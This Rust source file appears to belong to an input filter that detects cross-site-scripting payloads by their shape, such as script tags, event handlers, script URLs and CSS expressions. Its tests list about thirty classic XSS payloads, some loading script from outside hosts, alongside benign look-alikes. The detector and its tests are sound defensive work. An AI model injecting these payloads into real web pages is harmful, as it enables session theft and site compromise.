//! Script by its shape: a value that opens a `<script>` element, gives a
//! tag an event handler, a script URL, script in a style or a refresh, or
//! is a `javascript:` URL.

use super::super::gate;
use super::attribute::attribute_breakout;

/// Whether `text` (decoded: lowercase, whitespace folded) opens script:
/// a `<script` element, a tag with an event-handler attribute, a script
/// URL, script in a style, a scriptlet, bound HTML or a refresh, a value
/// that is a `javascript:`/`vbscript:` URL, or one that closes an
/// attribute's quote and adds such an attribute (`attribute.rs`).
pub fn script_breakout(text: &str) -> bool {
    let bytes = text.as_bytes();
    let url = text.trim_start_matches([' ', '"', '\'']);
    if ["javascript:", "vbscript:"].iter().any(|s| url.strip_prefix(s).is_some_and(|rest| !rest.starts_with(' '))) {
        return true;
    }
    // A document URL that carries its own markup (`data:text/html;base64,…`), reflected into a link or frame.
    // (A form's decoding has made `svg+xml`'s `+` a space.)
    if ["data:text/html", "data:image/svg+xml", "data:image/svg xml"]
        .iter()
        .any(|s| url.strip_prefix(s).is_some_and(|rest| rest.starts_with([';', ','])))
    {
        return true;
    }
    // `+ADw-script+AD4-`: a script tag in UTF-7, which a page whose charset
    // an attacker can choose (or old IE guessing it) reads as `<script>`
    // (a form's decoding has made the `+`s spaces).
    if memchr::memmem::find(bytes, b"adw-script").is_some_and(|at| contains(&bytes[at..], b"ad4-")) {
        return true;
    }
    bytes.iter().enumerate().filter(|(_, b)| **b == b'<').any(|(at, _)| {
        let tag = &bytes[at + 1..];
        let name = tag.iter().take_while(|b| b.is_ascii_alphanumeric()).count();
        if name == 0 || !tag[0].is_ascii_alphabetic() {
            return false;
        }
        let element = &tag[..name];
        if element == b"script" && tag.get(name).is_none_or(|b| matches!(b, b'>' | b' ' | b'/')) {
            return true;
        }
        if element == b"style" && styled_script(tag) {
            return true;
        }
        // The tag's attributes, up to its end: one of them an event handler,
        // a script URL, script in a style, or a refresh to elsewhere.
        let end = tag.iter().position(|b| *b == b'>').unwrap_or(tag.len());
        let attributes = &tag[name..end];
        handler_in(attributes)
            || script_url_in(attributes)
            // A scriptlet object runs the script it loads; data bound `dataformatas=html` is parsed as markup.
            || contains(attributes, b"x-scriptlet")
            || attribute_is(attributes, b"dataformatas=", b"html")
            // A plug-in (Flash) given the page's script to run.
            || attribute_is(attributes, b"allowscriptaccess=", b"always")
            || styled_script(attributes)
            || (element == b"meta" && contains(attributes, b"http-equiv") && contains(attributes, b"refresh"))
    }) || attribute_breakout(bytes)
}

/// `key` (with its `=`) set to a value starting `value`, quoted or not:
/// `dataformatas=html`, bound data rendered as markup.
fn attribute_is(attributes: &[u8], key: &[u8], value: &[u8]) -> bool {
    memchr::memmem::find(attributes, key).is_some_and(|at| {
        let set = &attributes[at + key.len()..];
        set.strip_prefix(b"\"").or_else(|| set.strip_prefix(b"'")).unwrap_or(set).starts_with(value)
    })
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    memchr::memmem::find(haystack, needle).is_some()
}

/// URL schemes that run what follows: script, or a document that can hold it.
const SCRIPT_URLS: [&[u8]; 7] = [
    b"javascript:",
    b"vbscript:",
    b"livescript:",
    b"data:text/html",
    b"data:image/svg",
    b"data:application/",
    // An MHTML archive, whose documents may hold script (Internet Explorer).
    b"mhtml:",
];

/// An attribute whose value is a script URL (`src=javascript:…`,
/// ``href=`javascript:…` ``, `data="data:text/html;base64,…"`).
fn script_url_in(attributes: &[u8]) -> bool {
    attributes.iter().enumerate().filter(|(_, b)| **b == b'=').any(|(at, _)| script_url_at(&attributes[at + 1..]))
}

/// Whether `value`, after any spaces and opening quotes, is a script URL.
pub(super) fn script_url_at(mut value: &[u8]) -> bool {
    while let [b' ' | b'"' | b'\'' | b'`', rest @ ..] = value {
        value = rest;
    }
    SCRIPT_URLS.iter().any(|scheme| value.starts_with(scheme))
}

/// CSS that runs script in old browsers: `expression(…)`, `behavior:url(…)`, `-moz-binding:url(…)`.
pub(super) fn styled_script(css: &[u8]) -> bool {
    contains(css, b"expression(") || contains(css, b"behavior:") || contains(css, b"-moz-binding")
}

/// `on…=` opening an attribute (after a space, `/` or quote) in a tag's text.
fn handler_in(attributes: &[u8]) -> bool {
    gate::handler_after(attributes, |before| matches!(before, Some(b' ' | b'/' | b'"' | b'\'')))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::payload::{Context, decode};

    fn opens_script(raw: &str) -> bool {
        script_breakout(&decode(raw, Context::Form).text)
    }

    #[test]
    fn script_elements_handlers_and_script_urls_open_script() {
        for attack in [
            "<script>alert(1)</script>",
            "<script src=//brutelogic.com.br/1.js>",
            "<SCRIPT/SRC=x>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<body onload = x()>",
            "\"><img src=x onerror=alert(1)>",
            "<a href=\"#\" onclick=\"go()\">x</a>",
            "javascript:alert(1)",
            "\"javascript:alert(1)",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "&lt;img src=x onerror=alert(1)&gt;",
            "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz4=\" type=\"image/svg+xml\">",
            "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html;base64,PHNjcmlwdD4=\">",
            "<div style=\"width: expression(alert(1))\">",
            "<x style=\"behavior:url(test.sct)\">",
            "<style>body{-moz-binding:url(x.xml#xss)}</style>",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://x.example/s.html\"></OBJECT>",
            "<SPAN DATASRC=\"#x\" DATAFLD=\"B\" DATAFORMATAS=\"HTML\"></SPAN>",
            "<iframe src=mhtml:http://x.example/t.gif!xss.html></iframe>",
            "<span datasrc=#i datafld=c dataformatas='html'></span>",
            "<embed code=\"http://x.example/kcf.swf\" allowscriptaccess=always>",
            "<object allowScriptAccess=\"always\" data=\"test.swf\"></object>",
            "data:text/html;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMik+",
            "data:text/html,<script>alert(1)</script>",
            "\"data:image/svg+xml;base64,PHN2Zz4=",
        ] {
            assert!(opens_script(attack), "{attack}");
        }
    }

    #[test]
    fn markup_and_words_about_script_do_not() {
        for text in [
            "<b>bold</b> and <i>italic</i>",
            "<p>javascript: the good parts</p>",
            "javascript: the good parts",
            "<a href=\"https://example.org/\">link</a>",
            "<descriptions>",
            "<scripts and notes>",
            "I put the onion=2 tomatoes",
            "<p>Call onboarding = tomorrow</p>",
            "oncall=alice",
            "1 < 2 onload",
            "<onion = 3>",
            "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
            "<a href=\"https://example.org/javascript:tips\">js tips</a>",
            "<p>regular expression(s) explained</p>",
            "the expression(x) is a call",
            "<meta name=\"description\" content=\"refresh your look\">",
            "<p style=\"color:red\">behavior: polite</p>",
            "C++ADW-script notes",
            "<p>save the page as mhtml: file, then open it</p>",
            "<object type=\"application/pdf\" data=\"/doc.pdf\"></object>",
            "<span dataformatas=\"text\">x</span>",
            "<embed src=\"movie.swf\" allowscriptaccess=\"samedomain\">",
            "<p>set allowscriptaccess=always in the embed code</p>",
            "data:text/html is a media type",
            "data:image/png;base64,iVBORw0KGgo=",
            "see data:text/html;base64 in the docs",
        ] {
            assert!(!opens_script(text), "{text}");
        }
    }
}
